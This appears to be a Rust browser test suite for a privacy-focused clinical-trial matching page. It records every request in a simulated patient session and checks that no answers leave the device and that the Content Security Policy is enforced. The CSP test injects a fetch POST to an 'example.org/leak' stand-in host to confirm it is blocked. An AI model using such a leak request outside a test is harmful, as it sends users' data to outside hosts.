//! The privacy promise, end to end. A full session — on a deployment with a snapshot, with
//! "remember" ticked, every step answered with distinctive values, a trial page, the print
//! sheet, a share link, a return visit with a newer snapshot (the change view) and the service
//! worker at work — is recorded request by request. Every
//! request must be a plain GET of one of the page's own files; changing an answer must make
//! no request at all; only after "Get current trials" may the ClinicalTrials.gov API be asked,
//! and then with search words, never an answer. The same session runs with every outside host
//! made unresolvable, to show the page needs nothing outside its own origin.

use std::collections::HashSet;

use crate::browser::{besides_places, Browser, Launch, Request};
use crate::dist;
use crate::flows::{open_all_details, open_home, step};
use crate::server::{Canned, StaticServer};
use crate::snapshot::snapshot;

/// Answer values that must never appear in a request to the registry.
const ANSWER_TRACES: &[&str] =
    &["83", "T-ALL", "refractory", "age_years", "diagnosis", "Salt", "CD7", "ecog", "answers", "allo_sct"];

/// Every file in the built bundle, as URL paths.
fn bundle_paths() -> HashSet<String> {
    fn walk(dir: &std::path::Path, root: &std::path::Path, out: &mut HashSet<String>) {
        for entry in std::fs::read_dir(dir).unwrap().flatten() {
            let path = entry.path();
            if path.is_dir() {
                walk(&path, root, out);
            } else {
                out.insert(format!("/{}", path.strip_prefix(root).unwrap().to_string_lossy()));
            }
        }
    }
    // The deployment's snapshot of current trials is one of the page's files when the
    // deployment bundles it (docs/deploy.md); the page asks for it first.
    let mut paths = HashSet::from(["/".to_owned(), "/data/current-trials.json".to_owned()]);
    walk(&dist(), &dist(), &mut paths);
    paths
}

/// Asserts the requests are the page's own files, or — only when allowed — the registry
/// API with no answer in its URL, headers or body.
fn assert_private(requests: &[Request], origin: &str, registry_allowed: bool) {
    let files = bundle_paths();
    for request in requests {
        if request.url.starts_with("data:") || request.url.starts_with("blob:") {
            continue;
        }
        if let Some(path) = request.url.strip_prefix(origin) {
            assert_eq!((request.method.as_str(), &request.body), ("GET", &None), "{request:?}");
            assert!(
                files.contains(path),
                "a request for something that is not one of the page's files: {request:?}"
            );
        } else if registry_allowed && request.url.starts_with("https://clinicaltrials.gov/api/v2/studies?") {
            let carried =
                format!("{} {} {}", request.url, request.headers, request.body.clone().unwrap_or_default());
            for trace in ANSWER_TRACES {
                assert!(!carried.contains(trace), "the registry request carried {trace:?}: {carried}");
            }
            assert!(request.body.is_none() && request.method == "GET", "{request:?}");
        } else {
            panic!("a request outside the page's origin: {request:?}");
        }
    }
}

/// An answer given through the page.
enum Act<'a> {
    Click(&'a str),
    Type(&'a str, &'a str),
}

/// Answers, waits a moment, and fails if answering made any request.
async fn quietly(browser: &mut Browser, what: &str, act: Act<'_>) {
    let before = browser.requests().await.len();
    match act {
        Act::Click(id) => browser.click(id).await,
        Act::Type(id, text) => browser.type_into(id, text).await,
    }
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    let after = browser.requests().await;
    assert_eq!(after.len(), before, "{what} made a request: {:#?}", &after[before..]);
}

fn serve_snapshot(server: &StaticServer, trials: usize, fetched_at: &str) {
    let body = snapshot(trials, fetched_at);
    server.set("/data/current-trials.json", Canned { status: 200, content_type: "application/json", body });
}

async fn full_session(launch: Launch) {
    let server = StaticServer::start(&dist());
    // A deployment with a snapshot of current trials, which the page shows first.
    serve_snapshot(&server, 20, "2026-11-20T05:00:00Z");
    let mut browser = Browser::start(launch).await;
    open_home(&mut browser, &server).await;
    let loaded = browser.requests().await;
    assert_private(&loaded, &server.origin, false);
    // Remembering keeps the answers, and what this visit shows, on the device only.
    quietly(&mut browser, "ticking remember", Act::Click("remember-answers")).await;

    step(&browser, "about").await;
    quietly(&mut browser, "typing the age", Act::Type("age-years", "83")).await;
    quietly(&mut browser, "choosing the sex", Act::Click("sex-male")).await;
    step(&browser, "diagnosis").await;
    quietly(&mut browser, "choosing the diagnosis", Act::Click("diagnosis-T-ALL")).await;
    step(&browser, "status").await;
    quietly(&mut browser, "choosing the status", Act::Click("status-refractory")).await;
    quietly(&mut browser, "typing prior lines", Act::Type("prior-lines", "7")).await;
    quietly(&mut browser, "answering a prior therapy", Act::Click("prior-allo_sct-yes")).await;
    step(&browser, "surface").await;
    quietly(&mut browser, "answering a surface marker", Act::Click("marker-CD7-yes")).await;
    step(&browser, "health").await;
    quietly(&mut browser, "choosing ECOG", Act::Click("ecog-3")).await;
    quietly(&mut browser, "answering CNS", Act::Click("cns-no")).await;
    quietly(&mut browser, "answering fitness", Act::Click("fit-no")).await;
    step(&browser, "location").await;
    quietly(&mut browser, "typing a place", Act::Type("location-input", "Salt Lake City")).await;
    // A lab report pasted into "Fill in from my lab report" is read on the device.
    browser.execute("document.querySelector('[data-testid=report-fill]').open = true", vec![]).await;
    let report = "Flow cytometry: T-lymphoblastic leukemia\nCD7 positive on 97% of blasts\nFLT3-ITD detected, allelic ratio 0.37";
    quietly(&mut browser, "pasting a report", Act::Type("report-text", report)).await;
    quietly(&mut browser, "reading the report", Act::Click("report-read")).await;
    browser.wait("report-found").await;
    quietly(&mut browser, "filling in from the report", Act::Click("report-apply")).await;

    // Filters, a trial page, the print sheet and a share link: still nothing leaves.
    browser.wait("filters").await;
    // These answers rule every example out, so the trial link is in the (opened) ruled-out list.
    open_all_details(&browser).await;
    browser.execute("document.querySelector('a[href*=\"/trial/\"]').click();", vec![]).await;
    browser.wait("checklist").await;
    browser.client.back().await.unwrap();
    browser.wait("results").await;
    browser.wait("print-sheet").await;
    browser.click("share-button").await;
    let shared = browser.text("share-link").await;
    let shared = if shared.is_empty() {
        browser
            .execute("return document.querySelector('[data-testid=share-link]').value", vec![])
            .await
            .as_str()
            .unwrap_or_default()
            .to_owned()
    } else {
        shared
    };
    let (address, fragment) = shared.split_once('#').expect("the share link has a fragment");
    // The random port may contain any digits: only the path and query could carry answers.
    let path = address.strip_prefix(server.origin.as_str()).unwrap_or(address);
    assert!(!path.contains('?') && !path.contains("83") && fragment.len() > 20, "{shared}");

    let session = besides_places(browser.requests().await, &server.origin);
    assert_private(&session, &server.origin, false);
    assert_eq!(session.len(), loaded.len(), "the session made requests: {:#?}", &session[loaded.len()..]);
    let seen = server.seen();
    assert!(
        seen.iter().all(|s| s.method == "GET" && s.body.is_empty() && !s.path.contains('?')),
        "{seen:#?}"
    );

    // A later visit with a newer snapshot compares it with this one (the change view), and the
    // service worker keeps the page's files: still only the page's own files are asked for.
    serve_snapshot(&server, 25, "2026-11-27T05:00:00Z");
    browser.goto(&server.url("/")).await;
    browser
        .wait_until("document.querySelector('[data-testid=trial-count]')?.textContent.trim() === '25'")
        .await;
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    assert_private(&browser.requests().await, &server.origin, false);
    let files = bundle_paths();
    let seen = server.seen();
    assert!(seen.iter().all(|s| s.method == "GET" && files.contains(&s.path)), "{seen:#?}");

    // Only on request may the registry be asked — with search words, not answers.
    browser.click("load-panel-toggle").await;
    browser.click("fetch-live").await;
    browser.wait("live-fallback").await;
    let all = browser.requests().await;
    assert!(all.len() > session.len(), "pressing the button made no request");
    assert_private(&all, &server.origin, true);
    let violations: Vec<String> = browser
        .console()
        .into_iter()
        .filter(|m| m.contains("Content Security Policy") || m.contains("panicked"))
        .collect();
    assert!(violations.is_empty(), "console: {violations:#?}");
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_full_session_sends_no_answer_anywhere() {
    full_session(Launch::default()).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_page_needs_nothing_outside_its_origin() {
    full_session(Launch { block_outside_hosts: true, ..Launch::default() }).await;
}

/// The Content Security Policy is in force, the page works under it, and a request the
/// policy does not allow is refused.
#[tokio::test(flavor = "multi_thread")]
async fn the_content_security_policy_is_in_force_without_violations() {
    let server = StaticServer::start(&dist());
    let mut browser = Browser::start(Launch::default()).await;
    open_home(&mut browser, &server).await;
    let policy = browser
        .execute("return document.querySelector('meta[http-equiv=Content-Security-Policy]').content", vec![])
        .await;
    let policy = policy.as_str().unwrap().to_owned();
    for directive in [
        "default-src 'none'",
        "script-src 'self' 'wasm-unsafe-eval' 'sha256-",
        "connect-src 'self' https://clinicaltrials.gov",
        "base-uri 'self'",
        "form-action 'none'",
    ] {
        assert!(policy.contains(directive), "{directive} missing from {policy}");
    }
    assert!(!policy.contains("unsafe-inline"), "{policy}");
    let before: Vec<String> =
        browser.console().into_iter().filter(|m| m.contains("Content Security Policy")).collect();
    assert!(before.is_empty(), "violations while loading: {before:#?}");
    let blocked = browser
        .execute_async(
            "const done = arguments[arguments.length - 1]; fetch('https://example.org/leak', {method: 'POST', body: 'x'}).then(() => done('sent'), () => done('blocked'));",
            vec![],
        )
        .await;
    assert_eq!(blocked.as_str(), Some("blocked"));
    browser.close().await;
}
